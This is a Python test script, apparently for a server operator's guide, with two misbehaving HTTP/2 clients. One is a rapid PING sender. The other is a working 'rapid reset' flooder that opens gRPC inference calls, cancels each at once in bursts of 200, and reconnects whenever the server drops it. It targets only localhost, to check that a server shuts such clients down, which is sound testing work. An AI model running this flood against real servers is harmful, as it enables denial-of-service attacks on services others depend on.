#!/usr/bin/env python3
"""Two HTTP/2 clients a server should end, for the operator's guide (section 17).

  misbehaving-client.py pings PORT          pings every 100 ms (more often than --permit-keepalive-time)
  misbehaving-client.py rapid-reset PORT S  opens calls and resets each at once for S seconds,
                                            reconnecting whenever the server ends a connection

Plaintext HTTP/2 on 127.0.0.1 only; standard library only.
"""
import socket
import struct
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def connect(port):
    s = socket.create_connection(("127.0.0.1", port))
    s.sendall(PREFACE + frame(4, 0, 0, b""))  # SETTINGS
    return s


def pings(port):
    s = connect(port)
    for _ in range(5):
        try:
            s.sendall(frame(6, 0, 0, b"\0" * 8))  # PING
        except OSError:
            break
        time.sleep(0.1)
    data = b""
    s.settimeout(2)
    try:
        while True:
            chunk = s.recv(65536)
            if not chunk:
                break
            data += chunk
    except OSError:
        pass
    at = 0
    while at + 9 <= len(data):
        length, kind = int.from_bytes(data[at:at + 3], "big"), data[at + 3]
        if kind == 7:  # GOAWAY: last stream, error code, debug data
            code = int.from_bytes(data[at + 13:at + 17], "big")
            print("GOAWAY error code 0x%x: %s" % (code, data[at + 17:at + 9 + length].decode("ascii", "replace")))
        at += 9 + length


def rapid_reset(port, seconds):
    path = b"/inference.GRPCInferenceService/ModelInfer"

    def literal(name, value):
        return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value

    block = (b"\x83\x86\x04" + bytes([len(path)]) + path
             + literal(b"content-type", b"application/grpc") + literal(b"te", b"trailers"))
    start = time.time()
    end = start + seconds
    sent = connections = 0
    while time.time() < end:
        s = connect(port)
        connections += 1
        closed = [False]

        def drain(s=s, closed=closed):
            try:
                while s.recv(65536):
                    pass
            except OSError:
                pass
            closed[0] = True

        threading.Thread(target=drain, daemon=True).start()
        stream = 1
        try:
            while time.time() < end and not closed[0]:
                burst = bytearray()
                for _ in range(200):
                    burst += frame(1, 4, stream, block)  # HEADERS, END_HEADERS
                    burst += frame(3, 0, stream, struct.pack(">I", 8))  # RST_STREAM, CANCEL
                    stream += 2
                s.sendall(burst)
                sent += 200
        except OSError:
            pass
        s.close()
    took = time.time() - start
    print("%d calls opened and reset in %.1f s on %d connections" % (sent, took, connections))


if __name__ == "__main__":
    if len(sys.argv) == 3 and sys.argv[1] == "pings":
        pings(int(sys.argv[2]))
    elif len(sys.argv) == 4 and sys.argv[1] == "rapid-reset":
        rapid_reset(int(sys.argv[2]), float(sys.argv[3]))
    else:
        sys.exit(__doc__)
